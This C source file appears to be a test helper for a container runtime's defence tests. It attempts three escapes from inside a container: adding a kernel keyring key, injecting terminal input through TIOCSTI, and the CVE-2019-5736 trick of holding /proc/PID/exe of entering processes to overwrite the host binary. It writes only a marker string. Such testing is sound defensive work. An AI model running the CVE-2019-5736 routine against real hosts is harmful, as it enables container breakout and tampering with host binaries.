/* probe: escape attempts made from inside a container, for the tests of
 * final's defences (tests/final.bats). Static: it runs in any image.
 *
 *   probe keyctl             add a key to the kernel keyring: "allowed" or why not
 *   probe watch-exe SECONDS  CVE-2019-5736: hold every new process's /proc/PID/exe
 *                            that is not the image's, and try to write through it
 *                            once no one runs it; prints "opened N wrote M"
 *   probe tiocsti            push a character into our terminal's input: "allowed" or why not
 */
#include <errno.h>
#include <signal.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static int keyctl(void)
{
	/* add_key(2) into the process keyring (KEY_SPEC_PROCESS_KEYRING = -2). */
	long id = syscall(SYS_add_key, "user", "probe", "x", 1, -2);

	printf("%s\n", id >= 0 ? "allowed" : strerror(errno));
	return id >= 0 ? 0 : 1;
}

static int tiocsti(void)
{
	char c = '\n';
	int rc = ioctl(0, TIOCSTI, &c);

	printf("%s\n", rc == 0 ? "allowed" : strerror(errno));
	return rc == 0 ? 0 : 1;
}

/* The exe of a process that is neither the image's binaries nor us. */
static int foreign_exe(int pid)
{
	char path[64], target[4096];
	ssize_t n;
	int fd;

	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	if ((fd = open(path, O_PATH | O_CLOEXEC)) < 0)
		return -1;
	n = readlink(path, target, sizeof target - 1);
	target[n > 0 ? n : 0] = '\0';
	if (!strncmp(target, "/bin/", 5) || !strncmp(target, "/t/", 3)) {
		close(fd);
		return -1;
	}
	return fd;
}

static volatile sig_atomic_t stopped;
static void stop(int sig) { (void)sig; stopped = 1; }

static int watch_exe(int seconds)
{
	int held[256], nheld = 0, next = getpid() + 1, wrote = 0;
	time_t end = time(NULL) + seconds;
	char path[64];

	/* As a container's PID 1, only a signal we handle reaches us: stop's TERM ends the watch. */
	signal(SIGTERM, stop);
	while (time(NULL) < end && !wrote && !stopped) {
		/* The next PIDs of our namespace: exec's processes take them in turn. */
		for (int pid = next; pid < next + 8; pid++) {
			int fd = foreign_exe(pid);
			if (fd >= 0 && nheld < 256) {
				held[nheld++] = fd;
				next = pid + 1;
			} else if (fd >= 0)
				close(fd);
			else if (kill(pid, 0) == 0 && pid >= next)
				next = pid + 1;
		}
		/* Once nobody runs the binary, it can be opened for writing. */
		for (int i = 0; i < nheld && !wrote; i++) {
			snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
			int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
			if (w >= 0) {
				wrote = write(w, "probe", 5) == 5;
				close(w);
			}
		}
	}
	printf("opened %d wrote %d\n", nheld, wrote);
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc == 2 && !strcmp(argv[1], "keyctl"))
		return keyctl();
	if (argc == 2 && !strcmp(argv[1], "tiocsti"))
		return tiocsti();
	if (argc == 3 && !strcmp(argv[1], "watch-exe"))
		return watch_exe(atoi(argv[2]));
	fprintf(stderr, "usage: probe keyctl | tiocsti | watch-exe SECONDS\n");
	return 2;
}
